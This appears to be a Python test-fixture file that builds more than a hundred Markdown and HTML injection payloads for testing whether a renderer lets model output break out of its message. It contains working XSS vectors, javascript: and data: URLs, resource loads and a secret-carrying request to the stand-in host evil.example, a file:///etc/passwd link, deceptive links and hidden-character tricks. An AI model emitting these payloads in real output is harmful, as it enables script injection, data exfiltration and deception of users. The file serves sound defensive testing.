"""What a model might write to break out of its message: more than a hundred payloads.

Made from a few attacks and the places in Markdown where each could slip through. `MARK` stands for
something that a test can notice: a call of `pwned()`, or a request to the host `evil.example`.
"""

HOST = "evil.example"

_TAGS = [
    "<script>pwned()</script>",
    f"<script src=https://{HOST}/x.js></script>",
    "<img src=x onerror=pwned()>",
    f"<img src=https://{HOST}/pixel.png>",
    f'<img srcset="https://{HOST}/a 1x">',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    f'<svg><use href="https://{HOST}/a.svg#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    f"<iframe src=https://{HOST}/></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<object data=https://{HOST}/x></object>",
    f"<embed src=https://{HOST}/x>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<link rel=prefetch href=https://{HOST}/x>",
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<div style='background:url(https://{HOST}/x)'>",
    "<div style='position:fixed;inset:0;z-index:9999'>cover</div>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base href=https://{HOST}/>",
    f"<form action=https://{HOST}/><input name=q autofocus onfocus=pwned()></form>",
    f"<video src=https://{HOST}/v poster=https://{HOST}/p onerror=pwned()></video>",
    f"<audio src=https://{HOST}/a autoplay></audio>",
    "<details open ontoggle=pwned()>",
    "<body onload=pwned()>",
    "<marquee onstart=pwned()>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<a href='javascript:pwned()'>x</a>",
    "<inferaived-chat model='https://evil.example/m.gguf'></inferaived-chat>",
    "<portal src=https://evil.example/></portal>",
    "<x contenteditable onblur=pwned()>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<script\n>pwned()</script\n>",
]

_ADDRESSES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "java\u0000script:pwned()",
    " javascript:pwned()",
    "\u0001javascript:pwned()",
    "javascript&colon;pwned()",
    "javascript&#58;pwned()",
    "javascript:pwned()//https://good.example",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=pwned()>",
    "vbscript:pwned()",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "view-source:javascript:pwned()",
    "about:blank",
    "//evil.example/x",
    "/logout",
    "?model=https://evil.example/m.gguf",
    "intent://evil.example#Intent;scheme=https;end",
    "https:evil.example",
    "https://good.example@evil.example/",
    "https://evil.example/?q=secret",
    "https://evil.example/' onmouseover='pwned()",
    'https://evil.example/" onmouseover="pwned()',
    "https://evil.example/><img src=x onerror=pwned()>",
]

_LINKS = ["[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[![x]({0})]({0})", '[x]({} "t")']

_PLACES = [
    "# {}",
    "> {}",
    "- {}\n  {}",
    "1. {}",
    "| {} |\n|---|\n| {} |",
    "**{}**",
    "_{}_",
    "~~{}~~",
]

_ODD = [
    "```html\n<script>pwned()</script>\n```",
    "```<img src=x onerror=pwned()>\n```",
    '``` x" onload="pwned()\n```',
    "`<img src=x onerror=pwned()>`",
    "```\n</code></pre><script>pwned()</script>",
    "[a](https://good.example)\u202e(elpmaxe.live//:sptth)[b]",
    "\u200b\u2066\ufeff\U000e0041\U000e0042hidden",
    "[https://good.example/](https://evil.example/)",
    "[good.example](https://evil.example)",
    "[x](https://evil.example/" + "(" * 50 + ")" * 50 + ")",
    "*" * 200 + "x" + "*" * 200,
    "[" * 200 + "](https://evil.example)",
    ">" * 100 + " deep",
    "\n".join(" " * 2 * depth + "- deep" for depth in range(40)),
    "| a |\n|:-:|\n| <script>pwned()</script> | " + "| x " * 50,
    "\\<script>pwned()</script>",
    "\ud83d<script>pwned()</script>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
]

PAYLOADS: list[str] = [
    *_TAGS,
    *(link.format(address) for address in _ADDRESSES for link in _LINKS),
    *(place.format(tag, tag) for place in _PLACES for tag in (_TAGS[2], _TAGS[0])),
    *_ODD,
]
